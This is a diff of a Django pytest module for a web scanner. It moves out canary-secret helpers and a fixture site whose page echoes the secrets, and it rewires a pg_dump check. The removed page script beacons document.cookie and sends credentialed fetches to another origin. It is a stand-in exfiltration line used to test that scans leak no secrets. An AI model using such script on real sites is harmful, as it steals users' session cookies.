@@ -4,23 +4,18 @@ from __future__ import annotations
 
 import json
 import logging
-import os
-import secrets
-import subprocess
-from base64 import b64encode
 from collections.abc import Iterator
 from datetime import timedelta
 from io import StringIO
 from typing import Any
-from urllib.parse import quote
 
 import pytest
 from django.core.management import call_command
 from django.db import connection
 from django.test import Client, override_settings
 from django.utils import timezone
+from psycopg.conninfo import make_conninfo
 
-from config.stack.postgres import find_binaries
 from reports.exports import FORMATS
 from scans.browser import _warm, close_browser
 from scans.closing import stop_scans
@@ -29,11 +24,12 @@ from scans.models import Scan, sealed
 from scans.net.credentials import Credentials, parse
 from scans.services import requeue_scan
 from scans.tasks import forget_credentials, run_scan
+from tests.database_dump import dump_of_database
 from tests.scans.net.loopback import NETWORKS
-from tests.sites.server import Answer, Request, Site
+from tests.sites.repeating import OTHER, Canaries, site_that_repeats_everything
+from tests.sites.server import Answer, Site
 from tests.world import Member, attempt_deliveries, browser_of, make_scan, person_of, register_webhook
 
-OTHER = "127.0.0.2"
 GIVEN = {
     "headers": {"X-Key": "value-of-the-key"},
     "basic_auth": {"username": "u", "password": "p"},
@@ -180,99 +176,6 @@ def test_a_line_that_is_none_is_refused_without_repeating_it(home: Member, targe
     assert not Scan.objects.exists()
 
 
-def core() -> str:
-    """What is looked for everywhere, in pieces too; letters as well as digits, so that it can't come by chance."""
-    return f"q{secrets.token_hex(7)}"
-
-
-class Canaries:
-    """Secrets of all kinds, whose values have what masks and encodings break into pieces."""
-
-    def __init__(self) -> None:
-        self.cores = [core() for _ in range(7)]
-        a, b, c, d, e, f, g = self.cores
-        self.key, self.cookie, self.username, self.password = f'{a},{b};"{c}"&<x>', f"{d}/{e}+x=", f"{f}", f"{g} ü%&;"
-        self.request = {
-            "headers": {"X-Key": self.key},
-            "cookies": {"sid": self.cookie},
-            "basic_auth": {"username": self.username, "password": self.password},
-        }
-        self.basic = b64encode(f"{self.username}:{self.password}".encode()).decode()
-
-    def found_in(self, text: str | bytes, *, least: int = 8) -> list[str]:
-        """What stands there of any of them, also pieces of `least` characters at the ends."""
-        text = text.decode("latin-1") if isinstance(text, bytes) else text
-        lower = text.lower()
-        coded = [b64encode(each.encode()).decode()[:-4] for each in (self.key, self.cookie, self.password)]
-        pieces = {piece for each in self.cores for piece in (each[:least], each[-least:])}
-        return [each for each in (*pieces, *(each.lower() for each in (*coded, self.basic))) if each in lower]
-
-
-def page_that_repeats_everything(given: Canaries, other: str) -> str:
-    key, cookie, both = quote(given.key), quote(given.cookie), given.basic
-    return f"""<!doctype html><html lang="en"><head>
-<title>Key {given.key.replace("<x>", "&lt;x&gt;")} {given.cookie}</title>
-<meta name="description" content="{given.password} {given.username} {both}">
-<meta property="og:image" content="/og.png?key={key}"><meta property="og:url" content="/?sid={cookie}">
-<link rel="canonical" href="/?token={key}"><link rel="alternate" hreflang="{given.username}" href="/de?key={key}">
-<link rel="stylesheet" href="/s.css?key={key}&amp;sid={cookie}"><script src="/jquery-1.0.js?{both}"></script>
-<link rel="stylesheet" href="{other}/s.css"><script src="{other}/x.js"></script>
-<script type="application/ld+json">{{"@type": "Product", "sku": "{given.username}", "bad": {given.password} }}
-</script></head>
-<body id="{given.username}" onclick="{given.username}"><h1>{given.username}</h1>
-<h4 id="{given.cookie}">{given.cookie}</h4>
-<form action="http://{OTHER}/{key}" id="{given.username}">
-<input name="password" type="password" value="{given.username}">
-<input name="{given.username}" style="color:#eee;background:#fff" placeholder="{given.cookie}"></form>
-<a href="http://{OTHER}:9/{key}" target="_blank">{given.username}</a> <a href="/gone?sid={cookie}">here</a>
-<p style="color:#ddd;background:#fff">{given.password} {"x" * 100} {both} {given.cookie}</p>
-<img src="/broken.png?auth={both}"><img src="{other}/image.png"><img src="/away">
-<img src="/i.png?{key}" alt="{given.cookie}">
-<iframe src="{other}/frame"></iframe><div role="{given.username}" aria-label="{given.cookie}" tabindex="5">x</div>
-<!-- {given.key} --><script>
-console.error({json.dumps(given.key)}, {json.dumps(given.cookie)});
-document.cookie = "echo={given.username}";
-navigator.sendBeacon("{other}/beacon", document.cookie.includes("sid=") ? document.cookie : "none");
-fetch("{other}/fetch", {{mode: "no-cors", credentials: "include"}});
-fetch("/away", {{mode: "no-cors"}});
-fetch("/api?key={key}");
-setTimeout(() => {{ throw new Error({json.dumps(given.password)}); }});
-</script></body></html>"""
-
-
-def site_that_repeats_everything(given: Canaries, site: Site, other: Site) -> None:
-    page = page_that_repeats_everything(given, other.url)
-    headers = [
-        ("Set-Cookie", f"sid={given.cookie}; Path=/"),
-        ("Set-Cookie", f"{given.username}={given.username}"),
-        ("Content-Security-Policy", f"script-src 'nonce-{given.username}' 'unsafe-inline' {given.username}.example"),
-        ("Server", f"nginx/1.0 {given.username}"),
-        ("X-Powered-By", given.key),
-        ("Access-Control-Allow-Origin", "*"),
-        ("Content-Type", "text/html"),
-    ]
-
-    def answer(request: Request) -> Answer:
-        if request.header("X-Key") != given.key or request.header("Authorization") != f"Basic {given.basic}":
-            return Answer("Who are you?", status=401, headers={"WWW-Authenticate": "Basic"})
-        return Answer(page.encode(), headers=headers)
-
-    site.routes |= {
-        "/": Answer.redirect(f"/in?sid={quote(given.cookie)}"),
-        "/in": answer,
-        "/away": Answer.redirect(f"{other.url}/redirected"),
-        "/robots.txt": Answer(
-            f"Disallow {given.key}\nSitemap: {given.username}", headers={"Content-Type": "text/plain"}
-        ),
-        "/s.css": Answer(
-            f".{given.username} {{ color: red }}",
-            headers={"Content-Type": "text/css", "Cache-Control": f"{given.username}"},
-        ),
-        "/jquery-1.0.js": Answer(f"/* {given.key} */" * 200, headers={"Content-Type": "text/javascript"}),
-        "/i.png": answer,
-    }
-
-
 @pytest.fixture
 def places() -> Iterator[tuple[Site, Site, Site]]:
     """The target, another origin, and a receiver of webhooks."""
@@ -331,31 +234,12 @@ def test_they_stand_nowhere_afterwards(
     assert {name: found for name, text in answers.items() if (found := given.found_in(text))} == {}
     assert len(receiver.requests) == len(ScanType)
     assert given.found_in("".join(f"{each.headers}{each.body!r}" for each in receiver.requests)) == []
-    assert given.found_in(dump_of_database()) == []
+    at = connection.settings_dict
+    names = {"host": "HOST", "port": "PORT", "user": "USER", "password": "PASSWORD", "dbname": "NAME"}
+    database = make_conninfo(**{name: at[key] for name, key in names.items() if at[key]})
+    connection.close()
+    assert given.found_in(dump_of_database(database)) == []
     assert given.found_in(caplog.text + "".join(capfd.readouterr())) == []
     assert other.requests
     assert given.found_in("".join(f"{each.path}{each.headers}{each.body!r}" for each in other.requests)) == []
     assert bool(browser == "auto") == any("Chrome/" in (each.header("User-Agent") or "") for each in site.requests)
-
-
-def dump_of_database() -> str:
-    settings = connection.settings_dict
-    connection.close()
-    environment = os.environ | {"PGPASSWORD": str(settings["PASSWORD"])}
-    command = [
-        str(find_binaries() / "pg_dump"),
-        "--inserts",
-        "-h",
-        str(settings["HOST"]),
-        "-p",
-        str(settings["PORT"] or 5432),
-    ]
-    dumped = subprocess.run(
-        [*command, "-U", str(settings["USER"]), str(settings["NAME"])],
-        env=environment,
-        capture_output=True,
-        text=True,
-        check=True,
-    ).stdout
-    # Binary columns are hexadecimal there.
-    return dumped + "".join(bytes.fromhex(each.split("'")[0]).decode("latin-1") for each in dumped.split("'\\x")[1:])
